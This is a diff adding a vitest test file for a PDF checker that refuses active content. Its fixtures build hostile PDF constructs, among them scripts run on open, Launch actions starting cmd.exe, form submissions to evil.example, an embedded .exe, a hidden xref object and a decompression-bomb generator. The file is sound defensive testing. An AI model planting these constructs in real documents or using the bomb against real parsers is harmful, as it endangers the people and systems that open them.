@@ -1,0 +1,176 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { deflateSync } from 'node:zlib'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { Refusal } from '#kernel/refusals.ts'
+import { aPdfOf, type PdfPacking } from '../../testing/pdf.ts'
+import { checkDocument } from './check-document.ts'
+
+let dir: string
+beforeAll(async () => {
+  dir = await mkdtemp(join(tmpdir(), 'clarion-documents-'))
+})
+afterAll(() => rm(dir, { recursive: true }))
+
+async function verdictOn(pdf: Buffer): Promise<unknown> {
+  const path = join(dir, 'document.pdf')
+  await writeFile(path, pdf)
+  return checkDocument(path).then(
+    () => 'passes',
+    (error: unknown) => (error instanceof Refusal ? (error.details['found'] ?? error.code) : error),
+  )
+}
+
+type Parts = Omit<Parameters<typeof aPdfOf>[0], 'packing'>
+
+const js = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
+const annotation = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`
+const xfa = (text: string) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`
+
+const ACTIVE: [string, Parts, string][] = [
+  ['a script when it is opened', { catalogue: `/OpenAction ${js}` }, 'script'],
+  [
+    'a script in its list of scripts',
+    { catalogue: `/Names << /JavaScript << /Names [(a) 5 0 R] >> >>`, objects: [js] },
+    'script',
+  ],
+  ['a script behind a link', { annotation: annotation(js) }, 'script'],
+  [
+    'a script after another action',
+    { annotation: annotation(`<< /S /GoTo /D [3 0 R /Fit] /Next [${js}] >>`) },
+    'script',
+  ],
+  ['a script under an escaped name', { annotation: annotation('<< /S /J#61vaScript /JS (x) >>') }, 'script'],
+  [
+    'a script in the first of two actions',
+    {
+      annotation: `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${js} /A << /S /URI /URI (https://example.eu/) >> >>`,
+    },
+    'script',
+  ],
+  ['a script played with a film', { annotation: annotation('<< /S /Rendition /OP 0 /JS (x) >>') }, 'script'],
+  [
+    'an action of its own accord',
+    { annotation: '<< /Subtype /Widget /FT /Tx /AA << /K << /S /URI /URI (https://a.eu) >> >> >>' },
+    'script',
+  ],
+  ['a program to be started', { annotation: annotation('<< /S /Launch /F (cmd.exe) >>') }, 'action'],
+  [
+    'a program started when it is opened',
+    { catalogue: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' },
+    'action',
+  ],
+  [
+    'a web page opened with it',
+    { catalogue: '/OpenAction << /S /URI /URI (https://evil.example/) >>' },
+    'action',
+  ],
+  [
+    'answers that are sent elsewhere',
+    { annotation: annotation('<< /S /SubmitForm /F (https://evil.example/) >>') },
+    'action',
+  ],
+  [
+    'a script as an address',
+    { annotation: annotation('<< /S /URI /URI (javascript:alert\\(1\\)) >>') },
+    'action',
+  ],
+  [
+    'a file inside',
+    {
+      catalogue: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>',
+      objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>'],
+    },
+    'attachment',
+  ],
+  [
+    'a file pinned to the page',
+    { annotation: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>' },
+    'attachment',
+  ],
+  [
+    'a film with a program',
+    { annotation: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>' },
+    'script',
+  ],
+]
+
+const PACKINGS: readonly PdfPacking[] = ['plain', 'compressed', 'encrypted']
+
+describe.each(PACKINGS)('with its objects %s', (packing) => {
+  test('a PDF with links, pages to go to and ordinary names passes', async () => {
+    const passing: Parts[] = [
+      {},
+      { catalogue: '/OpenAction [3 0 R /Fit]' },
+      { catalogue: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' },
+      { annotation: annotation('<< /S /URI /URI (mailto:a@example.eu) >>') },
+      { annotation: annotation('<< /S /Named /N /NextPage >>') },
+      { objects: ['<< /Font << /JS 3 0 R /AA 3 0 R /EF 3 0 R >> /S /constructor >>'] },
+    ]
+    const verdicts = []
+    for (const parts of passing) verdicts.push(await verdictOn(aPdfOf({ ...parts, packing })))
+    expect(verdicts).toEqual(passing.map(() => 'passes'))
+  })
+
+  test.each(ACTIVE)('one with %s is refused', async (_what, parts, found) => {
+    expect(await verdictOn(aPdfOf({ ...parts, packing }))).toBe(found)
+  })
+})
+
+test('what the table hides and a search from the beginning finds is refused', async () => {
+  const hidden = `5 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction ${js} >> endobj\ntrailer << /Root 5 0 R /ID [(a) (a)] >>\n`
+  const pdf = aPdfOf({}).toString('latin1')
+  const at = pdf.indexOf('xref\n')
+  const moved = `${pdf.slice(0, at)}${hidden}${pdf.slice(at)}`.replace(
+    /startxref\n\d+/,
+    `startxref\n${at + hidden.length}`,
+  )
+  expect(await verdictOn(Buffer.from(moved, 'latin1'))).toBe('script')
+})
+
+describe('a form in XML', () => {
+  const form = (text: string) => ({
+    catalogue: '/AcroForm << /XFA [(template) 5 0 R] >>',
+    objects: [xfa(text)],
+  })
+  test.each([
+    ['with a script', '<template><event><script>x()</script></event></template>', 'script'],
+    [
+      'that sends what was typed',
+      '<t:template><t:submit target="https://evil.example"/></t:template>',
+      'script',
+    ],
+    ['in letters of two bytes', '\xfe\xff\0<\0s\0c\0r', 'script'],
+    ['without either', '<template><field name="description"/></template>', 'passes'],
+  ])('%s: %s', async (_what, text, verdict) => {
+    expect(await verdictOn(aPdfOf(form(text)))).toBe(verdict)
+  })
+})
+
+test.each<[string, () => Buffer]>([
+  ['one that asks for a password', () => aPdfOf({ packing: 'encrypted', userPassword: 'secret' })],
+  ['one without pages', () => Buffer.from('%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF')],
+  ['a bomb', () => bomb()],
+])('%s cannot be read', async (_what, make) => {
+  expect(await verdictOn(make())).toBe('file-unreadable')
+})
+
+/** 700 MB of nothing in less than one, where its objects should be. */
+function bomb(): Buffer {
+  const stream = (number: number, dictionary: string, content: Buffer): Buffer =>
+    Buffer.concat([
+      Buffer.from(
+        `${number} 0 obj << ${dictionary} /Filter /FlateDecode /Length ${content.length} >>\nstream\n`,
+      ),
+      content,
+      Buffer.from('\nendstream\nendobj\n'),
+    ])
+  const head = Buffer.from('%PDF-1.7\n')
+  const objects = stream(9, '/Type /ObjStm /N 3 /First 700000000', deflateSync(Buffer.alloc(700_000_000)))
+  const entries = [0, 0, 0, 0, 2, 0, 9, 0, 2, 0, 9, 1, 2, 0, 9, 2, 1, 0, 9, 0]
+  const table = deflateSync(Buffer.from(entries))
+  const xref = stream(10, '/Type /XRef /Size 11 /Index [0 4 9 1] /W [1 2 1] /Root 1 0 R', table)
+  const end = Buffer.from(`startxref\n${head.length + objects.length}\n%%EOF\n`)
+  return Buffer.concat([head, objects, xref, end])
+}
